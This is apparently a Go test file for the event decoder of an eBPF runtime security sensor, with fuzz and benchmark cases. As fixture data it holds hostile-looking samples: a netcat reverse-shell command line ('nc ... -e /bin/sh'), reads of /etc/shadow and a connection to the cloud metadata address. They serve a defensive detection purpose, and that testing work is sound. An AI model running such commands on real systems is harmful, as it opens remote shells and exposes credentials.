package probe

import (
	"bytes"
	"encoding/binary"
	"errors"
	"net/netip"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bulwark-security/bulwark/internal/rules"
)

// Samples are built from the bpf2go-generated structs, i.e. exactly the
// bytes the kernel writes.

func cbytes[T ~int8 | ~uint8](dst []T, s string) {
	for i := 0; i < len(s) && i < len(dst); i++ {
		dst[i] = T(s[i])
	}
}

func hdr(kind uint16, comm string) sensorEventHdr {
	h := sensorEventHdr{Ts: 1_000_000_000, CgroupId: 4242, Kind: kind, Pid: 100, Tid: 100, Ppid: 1, Uid: 0, Gid: 0, Loginuid: 0xffffffff}
	cbytes(h.Comm[:commLen-1], comm) // the kernel keeps 15 bytes and a NUL
	return h
}

func encode(t testing.TB, v any) []byte {
	var b bytes.Buffer
	if err := binary.Write(&b, binary.LittleEndian, v); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func execSample(t testing.TB, filename string, argv []string, cwd []string, flags uint16) []byte {
	e := sensorExecEvent{H: hdr(kindExec, filename[bytes.LastIndexByte([]byte(filename), '/')+1:])}
	e.H.Flags = flags
	cbytes(e.Filename[:], filename)
	e.FilenameLen = uint16(len(filename))
	a := []byte{}
	for _, s := range argv {
		a = append(a, s...)
		a = append(a, 0)
	}
	cbytes(e.Args[:], string(a))
	e.ArgsLen = uint16(len(a))
	cbytes(e.Ancestors[0][:], "bash")
	for i, c := range cwd {
		cbytes(e.Cwd[i][:], c)
	}
	return encode(t, &e)
}

func pathSample(t testing.TB, kind uint16, comm, path string, a0 uint64) []byte {
	e := sensorPathEvent{H: hdr(kind, comm), A: [4]uint64{a0}}
	cbytes(e.Path[:], path)
	e.PathLen = uint16(len(path))
	return encode(t, &e)
}

func connectSample(t testing.TB, ip netip.Addr, port uint16) []byte {
	e := sensorSmallEvent{H: hdr(kindConnect, "curl")}
	fam := uint64(2)
	if ip.Is6() {
		fam = 10
	}
	e.A[0] = fam | 1<<16 | uint64(port)<<32
	b := encode(t, &e)
	copy(b[offA+16:], ip.AsSlice())
	return b
}

type fixedIDs map[uint64]string

func (f fixedIDs) ContainerID(id uint64) string { return f[id] }

func TestDecode(t *testing.T) {
	ids := fixedIDs{4242: "c0ffee"}
	d := NewDecoder(ids, 0, "")
	var ev rules.Event

	if err := d.Decode(execSample(t, "./run.sh", []string{"./run.sh", "-x", "a b"}, []string{"app", "srv"}, flagUpper), &ev); err != nil {
		t.Fatal(err)
	}
	want := rules.Process{Name: "run.sh", Exe: "./run.sh", ExePath: "/srv/app/run.sh", Args: "-x a b", Cmdline: "run.sh -x a b",
		PID: 100, PPID: 1, CWD: "/srv/app", ExeUpperLayer: true, Ancestors: []rules.Ancestor{{Name: "bash"}}}
	if diff := cmp.Diff(want, ev.Proc); diff != "" {
		t.Errorf("exec (-want +got):\n%s", diff)
	}
	if ev.Type != rules.EventExecve || ev.Container.ID != "c0ffee" || ev.User.LoginUID != -1 || ev.Time != 1_000_000_000 || Prevented(&ev) {
		t.Errorf("exec event: %+v", ev)
	}

	// A later open by the same process carries the exec's command line.
	if err := d.Decode(pathSample(t, kindOpenat, "run.sh", "/etc/shadow", 0), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Type != rules.EventOpenat || ev.FD.Name != "/etc/shadow" || ev.FD.TypeChar != 'f' || ev.Proc.Cmdline != "run.sh -x a b" {
		t.Errorf("open event: %+v", ev)
	}

	if err := d.Decode(connectSample(t, netip.MustParseAddr("169.254.169.254"), 80), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.FD.RIP != netip.MustParseAddr("169.254.169.254") || ev.FD.RPort != 80 || ev.FD.TypeChar != '4' || ev.FD.L4Proto != "tcp" || ev.FD.Name != "->169.254.169.254:80" {
		t.Errorf("connect event: %+v", ev.FD)
	}
	if err := d.Decode(connectSample(t, netip.MustParseAddr("2001:db8::1"), 443), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.FD.TypeChar != '6' || ev.FD.Name != "->[2001:db8::1]:443" {
		t.Errorf("connect6 event: %+v", ev.FD)
	}

	// Busybox re-executing itself through /proc/self/exe is named by argv[0].
	if err := d.Decode(execSample(t, "/proc/self/exe", []string{"nc", "1.2.3.4", "4444", "-e", "/bin/sh"}, nil, 0), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Proc.Name != "nc" || ev.Proc.CWD != "/" {
		t.Errorf("self re-exec: name %q cwd %q", ev.Proc.Name, ev.Proc.CWD)
	}
	// Long names: comm is cut at 15 bytes, the file name is not.
	if err := d.Decode(execSample(t, "/tmp/bulwark_alerttest_1234", []string{"/tmp/bulwark_alerttest_1234"}, nil, flagPrevented|flagUpper), &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Proc.Name != "bulwark_alerttest_1234" || !Prevented(&ev) {
		t.Errorf("long name: %q prevented=%v", ev.Proc.Name, Prevented(&ev))
	}
}

func TestDecodeRejects(t *testing.T) {
	d := NewDecoder(nil, 0, "")
	var ev rules.Event
	full := execSample(t, "/bin/true", []string{"true"}, nil, 0)
	if err := d.Decode(full[:hdrSize-1], &ev); !errors.Is(err, ErrShortSample) {
		t.Errorf("short header: %v", err)
	}
	if err := d.Decode(full[:execSize-1], &ev); !errors.Is(err, ErrShortSample) {
		t.Errorf("short exec: %v", err)
	}
	bad := append([]byte(nil), full...)
	binary.LittleEndian.PutUint16(bad[16:], 999)
	if err := d.Decode(bad, &ev); !errors.Is(err, ErrUnknownKind) {
		t.Errorf("bad kind: %v", err)
	}
	// Lengths larger than their buffers are clamped, not trusted.
	binary.LittleEndian.PutUint16(full[offFnameLen:], 0xffff)
	binary.LittleEndian.PutUint16(full[offArgsLen:], 0xffff)
	if err := d.Decode(full, &ev); err != nil {
		t.Errorf("oversized lengths: %v", err)
	}
}

func FuzzDecode(f *testing.F) {
	f.Add(execSample(f, "/bin/sh", []string{"sh", "-c", "id"}, []string{"tmp"}, flagUpper))
	f.Add(pathSample(f, kindOpenat, "cat", "/etc/shadow", 0))
	f.Add(pathSample(f, kindUnlinkat, "rm", "/var/log/x", 0))
	f.Add(connectSample(f, netip.MustParseAddr("10.0.0.1"), 3333))
	f.Add([]byte{})
	f.Add(make([]byte, hdrSize))
	d := NewDecoder(fixedIDs{}, 0, "")
	var ev rules.Event
	f.Fuzz(func(t *testing.T, b []byte) {
		if err := d.Decode(b, &ev); err != nil {
			return
		}
		if len(ev.Proc.Cmdline) > 2*(execSize) || len(ev.FD.Name) > pathSize+64 {
			t.Fatalf("unbounded output from %d bytes", len(b))
		}
		if len(d.procs) > maxProcs || len(d.strs) > maxStrs || len(d.comms) > maxComms {
			t.Fatal("decoder caches exceed their bounds")
		}
	})
}

func BenchmarkDecodeOpen(b *testing.B) {
	d := NewDecoder(fixedIDs{4242: "c0ffee"}, 0, "")
	var ev rules.Event
	if err := d.Decode(execSample(b, "/bin/cat", []string{"cat", "/etc/shadow"}, nil, 0), &ev); err != nil {
		b.Fatal(err)
	}
	s := pathSample(b, kindOpenat, "cat", "/etc/shadow", 0)
	b.ReportAllocs()
	for b.Loop() {
		if err := d.Decode(s, &ev); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N), "ns/event")
}

func BenchmarkDecodeExec(b *testing.B) {
	d := NewDecoder(fixedIDs{4242: "c0ffee"}, 0, "")
	var ev rules.Event
	s := execSample(b, "/usr/bin/python3", []string{"python3", "manage.py", "runserver", "0.0.0.0:8000"}, []string{"app"}, 0)
	b.ReportAllocs()
	for b.Loop() {
		if err := d.Decode(s, &ev); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N), "ns/event")
}

func BenchmarkDecodeConnect(b *testing.B) {
	d := NewDecoder(fixedIDs{4242: "c0ffee"}, 0, "")
	var ev rules.Event
	s := connectSample(b, netip.MustParseAddr("10.0.3.4"), 5432)
	b.ReportAllocs()
	for b.Loop() {
		if err := d.Decode(s, &ev); err != nil {
			b.Fatal(err)
		}
	}
}
